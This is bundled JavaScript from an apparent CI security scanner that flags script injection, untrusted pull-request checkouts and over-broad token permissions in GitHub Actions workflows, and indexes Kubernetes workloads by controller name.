function injections(w, job) {
    const privileged = [...w.triggers].some((t) => PRIVILEGED_TRIGGERS.has(t));
    const hits = [];
    for (const step of job.steps) {
        const sinks = [];
        if (step.runNode)
            sinks.push({ node: step.runNode, what: 'run script' });
        const script = step.with.get('script');
        if (script && step.uses && /^actions\/github-script@/i.test(step.uses)) {
            const node = w.view.deref(script.pair.value);
            if (node)
                sinks.push({ node, pair: script.pair, what: 'github-script script' });
        }
        for (const sink of sinks) {
            const value = w.view.text(sink.node) ?? '';
            const seen = new Set();
            for (const expr of value.matchAll(EXPRESSION)) {
                for (const ctx of expr[1].matchAll(UNTRUSTED_CONTEXT)) {
                    const field = ctx[0].replace(/\s+/g, '');
                    if (seen.has(field))
                        continue;
                    seen.add(field);
                    hits.push({
                        rule: WORKFLOW_RULES.scriptInjection,
                        message: `${stepLabel(step)} of ${jobLabel(w, job)} expands ${field} into its ${sink.what}; an outsider controls that text. Pass it via env: and quote the variable.`,
                        line: lineOfText(w, sink.node, expr[0]) ?? w.view.line(sink.pair) ?? step.line,
                        identity: `job:${job.id}:${step.key}:${field}`,
                        severity: privileged ? 'critical' : 'high',
                        tags: [`job:${job.id}`],
                    });
                }
            }
        }
    }
    return hits;
}
/** The line inside a (block) scalar where `needle` occurs as written, when the source keeps it verbatim. */
function lineOfText(w, node, needle) {
    const source = w.view.source(node);
    if (!source)
        return undefined;
    const at = source.text.indexOf(needle);
    return at < 0 ? undefined : w.view.lineAt(source.offset + at);
}
function untrustedCheckouts(w, job) {
    const trigger = CHECKOUT_TRIGGERS.find((t) => w.triggers.has(t));
    if (!trigger)
        return [];
    const hits = [];
    job.steps.forEach((step, i) => {
        let where;
        if (step.uses && /^actions\/checkout@/i.test(step.uses)) {
            const ref = step.with.get('ref');
            const repo = step.with.get('repository');
            if (ref && UNTRUSTED_REF.test(ref.value))
                where = ref.pair;
            else if (repo && UNTRUSTED_REF.test(repo.value))
                where = repo.pair;
        }
        else if (step.run && SHELL_CHECKOUT.test(step.run) && step.runNode) {
            where = step.runNode;
        }
        if (!where)
            return;
        const runner = job.steps.slice(i + 1).find((s) => s.run !== undefined || (s.uses !== undefined && s.uses.trim().startsWith('./')));
        const line = w.view.line(where) ?? step.line;
        hits.push({
            rule: WORKFLOW_RULES.untrustedCheckout,
            message: runner
                ? `${jobLabel(w, job)} checks out the pull request head (${stepLabel(step)}) in a ${trigger} workflow and then runs code from it (${stepLabel(runner)}, line ${runner.line}).`
                : `${jobLabel(w, job)} checks out the pull request head (${stepLabel(step)}) in a ${trigger} workflow; nothing from it must ever be executed there.`,
            line,
            identity: `job:${job.id}:checkout:${step.key}`,
            severity: runner ? 'critical' : 'medium',
            confidence: runner ? 0.85 : 0.5,
            tags: [`job:${job.id}`, `trigger:${trigger}`],
        });
    });
    return hits;
}
function permissions(w) {
    const hits = [];
    const writeAll = (pair) => w.view.text(pair?.value) === 'write-all';
    if (writeAll(w.permissions)) {
        hits.push({
            rule: WORKFLOW_RULES.permissions,
            message: 'The workflow grants write-all permissions to every job\'s GITHUB_TOKEN; grant only what each job needs.',
            line: w.view.line(w.permissions),
            identity: 'workflow:write-all',
            severity: 'high',
            confidence: 0.95,
        });
    }
    for (const job of w.jobs) {
        if (writeAll(job.permissions)) {
            hits.push({
                rule: WORKFLOW_RULES.permissions,
                message: `Job ${job.id} grants write-all permissions to its GITHUB_TOKEN; grant only what it needs.`,
                line: w.view.line(job.permissions),
                identity: `job:${job.id}:write-all`,
                severity: 'high',
                confidence: 0.95,
                tags: [`job:${job.id}`],
            });
        }
        else if (!job.permissions && !w.permissions) {
            hits.push({
                rule: WORKFLOW_RULES.permissions,
                message: `Job ${job.id} sets no permissions and neither does the workflow, so its GITHUB_TOKEN gets the repository default (often read/write).`,
                line: job.line,
                identity: `job:${job.id}:missing`,
                tags: [`job:${job.id}`],
            });
        }
    }
    return hits;
}

;// CONCATENATED MODULE: ./actions/scan/src/manifests/workflows/scanner.ts



/** `.github/workflows/*.yml` at any depth of the tree (monorepos keep several), and action definitions. */
function isWorkflowPath(relativePath) {
    return /(?:^|\/)\.github\/workflows\/[^/]+\.ya?ml$/i.test(relativePath);
}
function isActionDefinition(baseName) {
    return baseName === 'action.yml' || baseName === 'action.yaml';
}
function workflowScanner() {
    return manifestScanner({
        name: 'workflows',
        family: { kind: 'workflow', eventType: 'misconfiguration.workflow', tags: ['github-actions'] },
        wants: (rel, base) => isWorkflowPath(rel) || isActionDefinition(base),
        analyse(file) {
            const base = file.relativePath.slice(file.relativePath.lastIndexOf('/') + 1);
            const { workflow, problems } = readWorkflowFile(file.text, !isWorkflowPath(file.relativePath) && isActionDefinition(base));
            const warnings = problems.map((p) => ({ ...(p.line ? { line: p.line } : {}), reason: p.reason }));
            if (!workflow)
                return { hits: [], warnings, examined: false };
            return { hits: checkWorkflow(workflow), warnings, examined: true };
        },
    });
}

// EXTERNAL MODULE: ./actions/scan/src/discovery.ts
var src_discovery = __webpack_require__(91017);
// EXTERNAL MODULE: ./actions/scan/src/text-files.ts
var text_files = __webpack_require__(39606);
;// CONCATENATED MODULE: ./actions/scan/src/manifests/kubernetes/lookup.ts






/** Every workload in the given YAML texts, with warnings for files that could not be read. */
function workloadsIn(files) {
    const workloads = [];
    const warnings = [];
    for (const file of files) {
        if (file.text.length > MAX_MANIFEST_CHARS) {
            warnings.push({ file: file.relativePath, scanner: 'kubernetes', reason: 'too large to read as a manifest' });
            continue;
        }
        try {
            const k8s = readKubernetesFile(file.relativePath, file.text);
            for (const p of k8s.problems)
                warnings.push({ file: file.relativePath, ...(p.line ? { line: p.line } : {}), scanner: 'kubernetes', reason: p.reason });
            for (const w of k8s.workloads) {
                workloads.push({
                    path: w.path,
                    ...(w.namespace ? { namespace: w.namespace } : {}),
                    kind: w.kind,
                    name: w.name,
                    apiVersion: w.apiVersion,
                    label: workloadLabel(w),
                    line: w.line,
                    endLine: w.endLine,
                    nameLine: w.nameLine,
                    ...(w.helmSource ? { helmSource: w.helmSource } : {}),
                    containers: w.containers.map((c) => ({ name: c.name, role: c.role, ...(c.image !== undefined ? { image: c.image } : {}), line: c.line })),
                });
            }
        }
        catch (error) {
            if (!(error instanceof ManifestLimitError || error instanceof RangeError))
                throw error;
            warnings.push({ file: file.relativePath, scanner: 'kubernetes', reason: `not read: ${error.message}` });
        }
    }
    return { workloads, warnings };
}
/** Kubernetes' random suffixes use this alphabet (no vowels, no 0/1/3). */
const SUFFIX = '[bcdfghjklmnpqrstvwxz2456789]';
/** How a controller names what it creates, after `<controller name>-`. */
const CHILD_NAME = {
    Deployment: new RegExp(`^${SUFFIX}{1,10}(?:-${SUFFIX}{5})?$`), // ReplicaSet <hash>, Pod <hash>-<rand>
    ReplicaSet: new RegExp(`^${SUFFIX}{5}$`),
    ReplicationController: new RegExp(`^${SUFFIX}{5}$`),
    DaemonSet: new RegExp(`^${SUFFIX}{5}$`),
    StatefulSet: /^\d+$/, // <name>-0, <name>-1
    Job: new RegExp(`^${SUFFIX}{5}$`),
    CronJob: new RegExp(`^\\d{8,10}(?:-${SUFFIX}{5})?$`), // Job <name>-<minutes since epoch>, Pod ...-<rand>
};
/** Which controller kinds can own an object of each kind. */
const OWNERS = {
    Pod: ['Deployment', 'ReplicaSet', 'ReplicationController', 'DaemonSet', 'StatefulSet', 'Job', 'CronJob'],
    ReplicaSet: ['Deployment'],
    Job: ['CronJob'],
};
/**
 * Workloads by identity. A query by controller (`shop/Deployment/shop-web`) matches it directly; a query by a
 * pod, ReplicaSet or Job name (what runtime alerts carry: `shop-web-7d9f8b6c5-x2k4j`) is resolved to the
 * controller that generated that name. Manifests that name the namespace win over ones that leave it unset
 * (those match any namespace, as they deploy wherever they are applied).
 */
class WorkloadIndex {
    workloads;
    constructor(workloads) {
        this.workloads = workloads;
    }
    find(query) {
        return this.findAll(query)[0];
    }
    /** Every match, best first: exact namespace before unset namespace, direct name before derived name. */
    findAll(query) {
        const scored = [];
        for (const w of this.workloads) {
            const ns = namespaceScore(w, query.namespace);
            if (ns === 0)
                continue;
            const name = nameScore(w, query);
            if (name === 0)
                continue;
            scored.push({ w, score: ns * 10 + name });
        }
        return scored.sort((a, b) => b.score - a.score || b.w.name.length - a.w.name.length || a.w.path.localeCompare(b.w.path)).map((s) => s.w);
    }
}
function namespaceScore(w, namespace) {
    if (namespace === undefined)
        return 1;
    if (w.namespace === namespace)
        return 2;
    return w.namespace === undefined ? 1 : 0;
}
function nameScore(w, query) {
    if ((query.kind === undefined || query.kind === w.kind) && query.name === w.name)
        return 3;
    const owners = query.kind === undefined ? Object.keys(CHILD_NAME) : OWNERS[query.kind];
    if (!owners?.includes(w.kind))
        return 0;
    if (!query.name.startsWith(`${w.name}-`))
        return 0;
    return CHILD_NAME[w.kind].test(query.name.slice(w.name.length + 1)) ? 2 : 0;
}
/** Reads every YAML file under `root` (the scan's walk rules: node_modules, .git and the like are skipped). */
async function buildWorkloadIndex(root, exclude = []) {
    const discovery = await (0,src_discovery/* discoverFiles */.ZO)({ root, exclude, wants: (rel) => isYamlPath(rel) });
    const texts = [];
    const warnings = [...discovery.warnings];
    for (const file of discovery.files) {
        const outcome = await (0,text_files/* readTextFile */.G)(file);
        if ('warning' in outcome)
            warnings.push(outcome.warning);
        if ('text' in outcome)
            texts.push({ relativePath: outcome.text.relativePath, text: outcome.text.text });
    }
    const found = workloadsIn(texts);
    return { index: new WorkloadIndex(found.workloads), warnings: [...warnings, ...found.warnings] };
}
/**
 * The manifest that defines `namespace/kind/name` under `root`, or undefined. `kind` may be `Pod`,
 * `ReplicaSet` or `Job` with the generated name a runtime alert reports; it resolves to the controller.
 * For many lookups, build the index once with buildWorkloadIndex.
 */
async function findWorkloadManifest(root, namespace, kind, name) {
    const { index } = await buildWorkloadIndex(root);
    return index.find({ ...(namespace !== undefined ? { namespace } : {}), ...(kind !== undefined ? { kind } : {}), name });
}

;// CONCATENATED MODULE: ./actions/scan/src/manifests/index.ts



/**
 * Configuration scanners: Dockerfiles, Kubernetes workloads, GitHub Actions workflows. They need no inputs
 * (their rules are built in), so the factories ignore the setup.
 */
const createContainerScanner = async () => containerScanner();
const createKubernetesScanner = async () => kubernetesScanner();
const createWorkflowScanner = async () => workflowScanner();



/***/ })

};
